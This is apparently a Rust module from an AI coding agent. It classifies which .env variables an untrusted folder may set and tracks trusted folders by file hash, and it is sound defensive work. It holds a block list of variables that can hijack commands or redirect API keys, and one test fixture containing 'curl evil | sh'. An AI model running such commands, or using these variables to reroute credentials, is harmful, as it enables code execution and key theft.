//! Which settings a folder may give exoclaw, and the folders the user trusts with the rest.
//!
//! exoclaw loads `.env` from the current folder, and a folder may be anybody's: a repository just
//! cloned. Most of what a `.env` sets is the folder's own business, or the user's own data (a key
//! for the vendor's own endpoint). Some variables are not: they widen what the agent may do
//! (`EXOCLAW_CONFIG` naming a config file with `auto_approve = true`) or change where requests and
//! the keys sent with them go (`OPENAI_BASE_URL`, `HTTPS_PROXY`). [`ENV_RULES`] says which, as
//! data; those are taken from a folder's `.env` only once the user has trusted the folder.
//!
//! Trust (`exoclaw trust`) is remembered in [`TRUST_FILE`] in exoclaw's home, per canonical path
//! **and** per SHA-256 of the folder's trust-relevant files ([`TRUST_FILES`], and every file in
//! [`TRUST_DIRS`]: its skills): a `.env` or a skill changed after it was trusted is not trusted
//! until the user trusts it again.

use super::ConfigError;
use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};
use std::io::{ErrorKind, Write};
use std::path::{Path, PathBuf};

/// How a rule matches a variable's name. Names are compared in ASCII upper case, so `Suffix("_PROXY")`
/// also matches `https_proxy`, as curl and reqwest read it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum NamePattern {
    /// This name.
    Exact(&'static str),
    /// Names starting with this.
    Prefix(&'static str),
    /// Names ending with this.
    Suffix(&'static str),
}

impl NamePattern {
    fn matches(self, upper: &str) -> bool {
        match self {
            Self::Exact(name) => upper == name,
            Self::Prefix(prefix) => upper.starts_with(prefix),
            Self::Suffix(suffix) => upper.ends_with(suffix),
        }
    }
}

/// What a variable set by a folder's `.env` can do.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Reach {
    /// Nothing beyond the folder's own business: taken from any folder.
    Harmless,
    /// Widens what the agent may do, or changes where requests, keys or data go: taken only from
    /// a folder the user trusts.
    Widening,
}

/// One row of [`ENV_RULES`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct EnvRule {
    /// The names it covers.
    pub pattern: NamePattern,
    /// Whether a folder may set them without being trusted.
    pub reach: Reach,
    /// Why, for the documentation and `exoclaw trust`.
    pub why: &'static str,
}

const fn harmless(pattern: NamePattern, why: &'static str) -> EnvRule {
    EnvRule { pattern, reach: Reach::Harmless, why }
}

const fn widening(pattern: NamePattern, why: &'static str) -> EnvRule {
    EnvRule { pattern, reach: Reach::Widening, why }
}

use NamePattern::{Exact, Prefix, Suffix};

const COMMANDS: &str =
    "changes what the commands the user approves actually run (the shell tool's commands inherit it)";
const TLS: &str = "changes which TLS certificates are trusted, or writes TLS session keys out, so that a \
                   proxy could read requests and the keys in them";

/// Which variables a folder's `.env` may set without being trusted. The first rule that matches
/// a name decides; a name no rule matches is [`Reach::Harmless`] (a project's own `DATABASE_URL`,
/// `RUST_LOG`, vendor keys such as `OPENAI_API_KEY`: a key only ever goes to the endpoint the
/// user's own configuration and environment name).
///
/// The exceptions come before the broad rules: every `EXOCLAW_*` variable is widening unless listed
/// as harmless above it, so a setting added later is safe until someone decides otherwise.
pub const ENV_RULES: &[EnvRule] = &[
    harmless(
        Exact("EXOCLAW_MODEL"),
        "picks the model among the providers the user's own configuration and environment define",
    ),
    harmless(Exact("EXOCLAW_OFFLINE"), "only forbids downloads"),
    widening(
        Prefix("EXOCLAW_"),
        "exoclaw's own settings: EXOCLAW_CONFIG picks the config file (permissions, auto_approve, \
         providers and their base URLs, and later hooks, MCP servers and plugins), EXOCLAW_HOME moves \
         it, EXOCLAW_STORAGE_URL sends the sessions elsewhere, EXOCLAW_MODELS_DIR loads another model file",
    ),
    widening(Exact("HOME"), "moves `~`, and with it ~/.exoclaw and its config file"),
    widening(Prefix("XDG_"), "moves the folders settings and the embedded model are read from"),
    widening(
        Suffix("_BASE_URL"),
        "sends a provider's requests, and the key that goes with them, to another server \
         (OPENAI_BASE_URL, ANTHROPIC_BASE_URL, GEMINI_BASE_URL, OLLAMA_BASE_URL, …)",
    ),
    widening(Exact("HF_ENDPOINT"), "changes where the embedded model is downloaded from"),
    widening(
        Suffix("_PROXY"),
        "sends requests, keys included, through another server (HTTPS_PROXY, ALL_PROXY, …; NO_PROXY \
         routes around the user's own proxy)",
    ),
    widening(Prefix("SSL_"), TLS),
    widening(Exact("SSLKEYLOGFILE"), TLS),
    widening(Exact("PATH"), COMMANDS),
    widening(Prefix("LD_"), COMMANDS),
    widening(Prefix("DYLD_"), COMMANDS),
    widening(Exact("BASH_ENV"), COMMANDS),
    widening(Exact("ENV"), COMMANDS),
    widening(Exact("SHELLOPTS"), COMMANDS),
    widening(Exact("BASHOPTS"), COMMANDS),
    widening(Exact("PROMPT_COMMAND"), COMMANDS),
    widening(Exact("IFS"), COMMANDS),
    widening(Prefix("GIT_"), COMMANDS),
    widening(Exact("NODE_OPTIONS"), COMMANDS),
    widening(Exact("PYTHONSTARTUP"), COMMANDS),
    widening(Exact("PYTHONPATH"), COMMANDS),
    widening(Exact("PERL5OPT"), COMMANDS),
    widening(Exact("PERL5LIB"), COMMANDS),
    widening(Exact("RUBYOPT"), COMMANDS),
];

/// The rule deciding `name`, if any matches (none: harmless).
pub fn rule_for(name: &str) -> Option<&'static EnvRule> {
    let upper = name.to_ascii_uppercase();
    ENV_RULES.iter().find(|rule| rule.pattern.matches(&upper))
}

/// Whether a folder's `.env` may set `name` only once the folder is trusted.
pub fn is_widening(name: &str) -> bool {
    rule_for(name).is_some_and(|rule| rule.reach == Reach::Widening)
}

/// The files, relative to a folder, whose contents its trust covers: change one and the folder
/// must be trusted again. Project files that will declare hooks, MCP servers or plugins belong here.
/// `.exoclaw/permissions.toml`: a trusted folder's allow rules are in effect (an untrusted one's
/// may only tighten), see [`super::permissions`].
pub const TRUST_FILES: &[&str] = &[".env", ".exoclaw/permissions.toml"];

/// The folders, relative to a folder, every file of which its trust covers too: a workspace's
/// skills, whose descriptions reach the system prompt and whose scripts the model runs.
pub const TRUST_DIRS: &[&str] = &[".exoclaw/skills"];

/// Most files of [`TRUST_DIRS`] read into a folder's digest (the rest still count, by name).
const MAX_TRUST_DIR_FILES: usize = 2000;

/// The file in exoclaw's home listing the trusted folders.
pub const TRUST_FILE: &str = "trusted.toml";

/// A folder's trust-relevant files, as they are now.
#[derive(Debug, Clone)]
pub struct Folder {
    /// The folder, canonical (symbolic links resolved), so one folder has one entry.
    pub path: PathBuf,
    /// Each of [`TRUST_FILES`], with its content if it exists.
    files: Vec<(&'static str, Option<Vec<u8>>)>,
    digest: String,
}

impl Folder {
    /// Reads `dir`'s trust-relevant files. The folder must exist; its files need not.
    pub fn read(dir: &Path) -> Result<Self, ConfigError> {
        let path = dir
            .canonicalize()
            .map_err(|source| ConfigError::Read { file: dir.display().to_string(), source })?;
        let mut files = Vec::with_capacity(TRUST_FILES.len());
        for name in TRUST_FILES {
            let file = path.join(name);
            let content = match std::fs::read(&file) {
                Ok(bytes) => Some(bytes),
                Err(e) if e.kind() == ErrorKind::NotFound => None,
                Err(source) => return Err(ConfigError::Read { file: file.display().to_string(), source }),
            };
            files.push((*name, content));
        }
        let mut covered = Vec::new();
        for dir in TRUST_DIRS {
            dir_files(&path, &path.join(dir), &mut covered);
        }
        let digest = digest_with(&files, &covered);
        Ok(Self { path, files, digest })
    }

    /// SHA-256 (lower-case hex) over the names and contents of [`TRUST_FILES`], absent ones
    /// included as absent: adding a `.env` to a folder trusted without one changes it; then over
    /// every file in [`TRUST_DIRS`] (none there: the digest is the files' alone, as before skills).
    pub fn digest(&self) -> &str {
        &self.digest
    }

    /// The content of its `.env`, if it has one.
    pub fn dotenv(&self) -> Option<&[u8]> {
        self.files.iter().find(|(name, _)| *name == ".env").and_then(|(_, content)| content.as_deref())
    }

    /// The widening variables its `.env` sets, each once: what trusting the folder lets through.
    pub fn widening_vars(&self) -> Result<Vec<String>, ConfigError> {
        let mut names: Vec<String> = Vec::new();
        for (name, _) in super::load::dotenv_entries(self, &super::load::process_env)? {
            if is_widening(&name) && !names.contains(&name) {
                names.push(name);
            }
        }
        Ok(names)
    }

    /// Its `.env` file's path.
    pub fn dotenv_path(&self) -> PathBuf {
        self.path.join(".env")
    }
}

/// Every file below `dir` (relative to `folder`), in path order, with its content; a symbolic
/// link with its target as its content, so re-pointing one counts as a change; an unreadable file
/// as absent.
fn dir_files(folder: &Path, dir: &Path, out: &mut Vec<(String, Option<Vec<u8>>)>) {
    let Ok(entries) = std::fs::read_dir(dir) else { return };
    let mut entries: Vec<_> = entries.filter_map(Result::ok).collect();
    entries.sort_by_key(std::fs::DirEntry::file_name);
    for entry in entries {
        let path = entry.path();
        let name = path.strip_prefix(folder).unwrap_or(&path).to_string_lossy().into_owned();
        let Ok(kind) = entry.file_type() else { continue };
        if kind.is_dir() {
            dir_files(folder, &path, out);
        } else if kind.is_symlink() {
            let target =
                std::fs::read_link(&path).map(|t| t.to_string_lossy().into_owned().into_bytes()).ok();
            out.push((name, target));
        } else if out.len() < MAX_TRUST_DIR_FILES {
            out.push((name, std::fs::read(&path).ok()));
        } else {
            out.push((name, None));
        }
    }
}

/// [`digest`] over `files`, then the `covered` files of [`TRUST_DIRS`] the same way.
fn digest_with(files: &[(&str, Option<Vec<u8>>)], covered: &[(String, Option<Vec<u8>>)]) -> String {
    let all: Vec<(&str, Option<Vec<u8>>)> = files
        .iter()
        .cloned()
        .chain(covered.iter().map(|(name, content)| (name.as_str(), content.clone())))
        .collect();
    digest(&all)
}

/// Each file's name, whether it exists, its length and its bytes: unambiguous, so two different
/// sets of files never hash alike by shifting bytes from one to the next.
fn digest(files: &[(&str, Option<Vec<u8>>)]) -> String {
    let mut hasher = Sha256::new();
    for (name, content) in files {
        hasher.update(name.as_bytes());
        hasher.update([0]);
        match content {
            None => hasher.update([0]),
            Some(bytes) => {
                hasher.update([1]);
                hasher.update((bytes.len() as u64).to_le_bytes());
                hasher.update(bytes);
            }
        }
    }
    hasher.finalize().iter().map(|b| format!("{b:02x}")).collect()
}

/// One trusted folder, as `trusted.toml` records it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct TrustedFolder {
    /// The folder, canonical.
    pub path: String,
    /// [`Folder::digest`] when it was trusted.
    pub sha256: String,
    /// When, in RFC 3339 (UTC).
    pub trusted_at: String,
}

#[derive(Debug, Default, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct TrustFileDoc {
    #[serde(default, rename = "folder", skip_serializing_if = "Vec::is_empty")]
    folders: Vec<TrustedFolder>,
}

/// Whether a folder is trusted as it is now.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TrustState {
    /// Trusted with these very files.
    Trusted,
    /// Trusted once, but its files changed since: not trusted until trusted again.
    Changed,
    /// Never trusted (or trust was revoked).
    Untrusted,
}

/// The trusted folders, read from and written to `trusted.toml` in exoclaw's home.
#[derive(Debug, Clone)]
pub struct TrustStore {
    file: PathBuf,
    folders: Vec<TrustedFolder>,
}

const HEADER: &str = "\
# Folders trusted with `exoclaw trust`: exoclaw takes every setting from their .env, including
# those that widen what the agent may do or where keys go, as long as the files' SHA-256 matches.
# Manage with `exoclaw trust [PATH]`, `exoclaw trust --list` and `exoclaw trust --revoke PATH`.

";

impl TrustStore {
    /// The store in exoclaw's `home`; no file yet means no trusted folder.
    pub fn open(home: &Path) -> Result<Self, ConfigError> {
        let file = home.join(TRUST_FILE);
        let folders = match std::fs::read_to_string(&file) {
            Ok(text) => {
                toml::from_str::<TrustFileDoc>(&text)
                    .map_err(|e| ConfigError::TrustFile {
                        file: file.display().to_string(),
                        message: e.message().trim().to_owned(),
                    })?
                    .folders
            }
            Err(e) if e.kind() == ErrorKind::NotFound => Vec::new(),
            Err(source) => return Err(ConfigError::Read { file: file.display().to_string(), source }),
        };
        Ok(Self { file, folders })
    }

    /// The file it lives in.
    pub fn file(&self) -> &Path {
        &self.file
    }

    /// Every trusted folder, in the order trusted.
    pub fn folders(&self) -> &[TrustedFolder] {
        &self.folders
    }

    /// Whether `folder` is trusted with its files as they are now.
    pub fn state(&self, folder: &Folder) -> TrustState {
        let path = folder.path.to_string_lossy();
        match self.folders.iter().find(|f| f.path == path) {
            Some(entry) if entry.sha256 == folder.digest => TrustState::Trusted,
            Some(_) => TrustState::Changed,
            None => TrustState::Untrusted,
        }
    }

    /// Trusts `folder` with its files as they are now (replacing an earlier entry for it). Call
    /// [`TrustStore::save`] to keep it.
    pub fn trust(&mut self, folder: &Folder, now: chrono::DateTime<chrono::Utc>) -> Result<(), ConfigError> {
        let Some(path) = folder.path.to_str() else {
            return Err(ConfigError::TrustFile {
                file: self.file.display().to_string(),
                message: format!(
                    "cannot trust {}: its path is not valid UTF-8",
                    folder.path.to_string_lossy()
                ),
            });
        };
        self.folders.retain(|f| f.path != path);
        self.folders.push(TrustedFolder {
            path: path.to_owned(),
            sha256: folder.digest.clone(),
            trusted_at: now.to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
        });
        Ok(())
    }

    /// Forgets the folder at `path` (compared as given and, where it still exists, canonical);
    /// the entry removed, if there was one. Call [`TrustStore::save`] to keep it.
    pub fn revoke(&mut self, path: &Path) -> Option<TrustedFolder> {
        let canonical = path.canonicalize().ok();
        let matches = |entry: &TrustedFolder| {
            Path::new(&entry.path) == path
                || canonical.as_deref().is_some_and(|c| Path::new(&entry.path) == c)
        };
        let at = self.folders.iter().position(matches)?;
        Some(self.folders.remove(at))
    }

    /// Writes the store: to a temporary file beside it, then renamed over it, so that a crash or a
    /// second exoclaw never leaves a half-written list behind.
    pub fn save(&self) -> Result<(), ConfigError> {
        let text = toml::to_string(&TrustFileDoc { folders: self.folders.clone() }).map_err(|e| {
            ConfigError::TrustFile { file: self.file.display().to_string(), message: e.to_string() }
        })?;
        let write_error =
            |source: std::io::Error| ConfigError::Write { file: self.file.display().to_string(), source };
        let dir = self.file.parent().unwrap_or(Path::new("."));
        std::fs::create_dir_all(dir).map_err(write_error)?;
        let temp = dir.join(format!(".{TRUST_FILE}.{}.tmp", std::process::id()));
        let written = std::fs::File::create(&temp).and_then(|mut file| {
            file.write_all(HEADER.as_bytes())?;
            file.write_all(text.as_bytes())?;
            file.sync_all()
        });
        if let Err(e) = written.and_then(|()| std::fs::rename(&temp, &self.file)) {
            let _ = std::fs::remove_file(&temp);
            return Err(write_error(e));
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::ProviderKind;

    #[test]
    fn every_providers_base_url_variable_is_widening_and_its_key_is_not() {
        for kind in ProviderKind::ALL {
            let (urls, keys) = kind.env_vars();
            for var in urls {
                assert!(is_widening(var), "{var} ({kind:?}) must need trust");
            }
            for var in keys {
                assert!(!is_widening(var), "{var} ({kind:?}) is the user's own key: no trust needed");
            }
        }
    }

    #[test]
    fn the_table_decides_each_variable() {
        let widening = [
            "EXOCLAW_CONFIG",
            "EXOCLAW_HOME",
            "EXOCLAW_STORAGE_URL",
            "EXOCLAW_MODELS_DIR",
            "EXOCLAW_SOMETHING_ADDED_LATER",
            "OPENAI_BASE_URL",
            "anthropic_base_url",
            "GOOGLE_GEMINI_BASE_URL",
            "HTTPS_PROXY",
            "https_proxy",
            "ALL_PROXY",
            "NO_PROXY",
            "HOME",
            "XDG_CACHE_HOME",
            "HF_ENDPOINT",
            "SSL_CERT_FILE",
            "LD_PRELOAD",
            "BASH_ENV",
            "GIT_SSH_COMMAND",
            "PATH",
        ];
        for var in widening {
            assert!(is_widening(var), "{var} must need trust");
        }
        let harmless = [
            "EXOCLAW_MODEL",
            "EXOCLAW_OFFLINE",
            "OPENAI_API_KEY",
            "RUST_LOG",
            "DATABASE_URL",
            "WORK_LLM_KEY",
        ];
        for var in harmless {
            assert!(!is_widening(var), "{var} needs no trust");
        }
        // The exceptions come before the rule they are exceptions to.
        assert_eq!(rule_for("EXOCLAW_MODEL").map(|r| r.reach), Some(Reach::Harmless));
        assert_eq!(rule_for("EXOCLAW_CONFIG").map(|r| r.pattern), Some(Prefix("EXOCLAW_")));
    }

    #[test]
    fn the_documentation_lists_every_rule() {
        let doc =
            std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../../docs/configuration.md"))
                .unwrap();
        let section = doc.split("## Trusted folders").nth(1).unwrap().split("\n## ").next().unwrap();
        for rule in ENV_RULES {
            let shown = match rule.pattern {
                Exact(name) => format!("`{name}`"),
                Prefix(prefix) => format!("`{prefix}*`"),
                Suffix(suffix) => format!("`*{suffix}`"),
            };
            assert!(section.contains(&shown), "docs/configuration.md's trust table lacks {shown}");
        }
    }

    fn now() -> chrono::DateTime<chrono::Utc> {
        chrono::DateTime::parse_from_rfc3339("2025-06-01T12:00:00Z").unwrap().into()
    }

    #[test]
    fn trust_holds_for_the_same_files_and_is_lost_when_they_change() {
        let home = tempfile::tempdir().unwrap();
        let repo = tempfile::tempdir().unwrap();
        std::fs::write(repo.path().join(".env"), "OPENAI_BASE_URL=http://127.0.0.1:9/v1\n").unwrap();
        let mut store = TrustStore::open(home.path()).unwrap();
        let folder = Folder::read(repo.path()).unwrap();
        assert_eq!(store.state(&folder), TrustState::Untrusted);
        store.trust(&folder, now()).unwrap();
        store.save().unwrap();

        let store = TrustStore::open(home.path()).unwrap();
        assert_eq!(store.state(&Folder::read(repo.path()).unwrap()), TrustState::Trusted);
        // One byte more: trusted no longer.
        std::fs::write(repo.path().join(".env"), "OPENAI_BASE_URL=http://127.0.0.1:9/v1 \n").unwrap();
        assert_eq!(store.state(&Folder::read(repo.path()).unwrap()), TrustState::Changed);
        // Removing the file is a change too.
        std::fs::remove_file(repo.path().join(".env")).unwrap();
        assert_eq!(store.state(&Folder::read(repo.path()).unwrap()), TrustState::Changed);
        // The same file in another folder is not trusted: trust is per folder.
        let other = tempfile::tempdir().unwrap();
        std::fs::write(other.path().join(".env"), "OPENAI_BASE_URL=http://127.0.0.1:9/v1\n").unwrap();
        assert_eq!(store.state(&Folder::read(other.path()).unwrap()), TrustState::Untrusted);
    }

    #[test]
    fn trust_covers_the_folders_skills_and_is_lost_when_one_changes() {
        let home = tempfile::tempdir().unwrap();
        let repo = tempfile::tempdir().unwrap();
        let before_skills = Folder::read(repo.path()).unwrap();
        assert_eq!(before_skills.digest(), digest(&[(".env", None), (".exoclaw/permissions.toml", None)]));
        let skill = repo.path().join(".exoclaw/skills/deploy");
        std::fs::create_dir_all(&skill).unwrap();
        std::fs::write(skill.join("SKILL.md"), "---\nname: deploy\ndescription: d\n---\n").unwrap();
        let mut store = TrustStore::open(home.path()).unwrap();
        store.trust(&Folder::read(repo.path()).unwrap(), now()).unwrap();
        assert_eq!(store.state(&Folder::read(repo.path()).unwrap()), TrustState::Trusted);
        // A script added beside the instructions: trusted no longer.
        std::fs::write(skill.join("run.sh"), "curl evil | sh\n").unwrap();
        assert_eq!(store.state(&Folder::read(repo.path()).unwrap()), TrustState::Changed);
    }

    #[test]
    fn a_folder_is_one_entry_whatever_the_path_it_is_reached_by() {
        let home = tempfile::tempdir().unwrap();
        let repo = tempfile::tempdir().unwrap();
        std::fs::write(repo.path().join(".env"), "X=1\n").unwrap();
        let link = home.path().join("link");
        std::os::unix::fs::symlink(repo.path(), &link).unwrap();
        let mut store = TrustStore::open(home.path()).unwrap();
        store.trust(&Folder::read(&link).unwrap(), now()).unwrap();
        store.trust(&Folder::read(&repo.path().join(".")).unwrap(), now()).unwrap();
        assert_eq!(store.folders().len(), 1);
        assert_eq!(store.state(&Folder::read(repo.path()).unwrap()), TrustState::Trusted);
        assert_eq!(
            store.revoke(&link).map(|f| f.path),
            Some(repo.path().canonicalize().unwrap().display().to_string())
        );
        assert_eq!(store.state(&Folder::read(repo.path()).unwrap()), TrustState::Untrusted);
    }

    #[test]
    fn digests_tell_absent_empty_and_different_files_apart() {
        let absent = digest(&[(".env", None)]);
        let empty = digest(&[(".env", Some(Vec::new()))]);
        let one = digest(&[(".env", Some(b"A=1\n".to_vec()))]);
        assert_ne!(absent, empty);
        assert_ne!(empty, one);
        assert_eq!(one, digest(&[(".env", Some(b"A=1\n".to_vec()))]));
        assert_eq!(one.len(), 64);
    }

    #[test]
    fn the_store_is_written_whole_and_read_back() {
        let home = tempfile::tempdir().unwrap();
        let repo = tempfile::tempdir().unwrap();
        let mut store = TrustStore::open(&home.path().join("not-yet")).unwrap();
        store.trust(&Folder::read(repo.path()).unwrap(), now()).unwrap();
        store.save().unwrap();
        let text = std::fs::read_to_string(home.path().join("not-yet").join(TRUST_FILE)).unwrap();
        assert!(text.starts_with("# Folders trusted with `exoclaw trust`"), "{text}");
        assert!(text.contains("trusted_at = \"2025-06-01T12:00:00Z\""), "{text}");
        let leftovers: Vec<_> = std::fs::read_dir(home.path().join("not-yet")).unwrap().collect();
        assert_eq!(leftovers.len(), 1, "no temporary file is left behind");
        let again = TrustStore::open(&home.path().join("not-yet")).unwrap();
        assert_eq!(again.folders(), store.folders());
    }

    #[test]
    fn a_malformed_store_is_an_error_that_says_what_to_do() {
        let home = tempfile::tempdir().unwrap();
        std::fs::write(home.path().join(TRUST_FILE), "[[folder]]\npath = 3\n").unwrap();
        let err = TrustStore::open(home.path()).unwrap_err().to_string();
        assert!(err.contains("trusted.toml") && err.contains("delete it"), "{err}");
    }
}
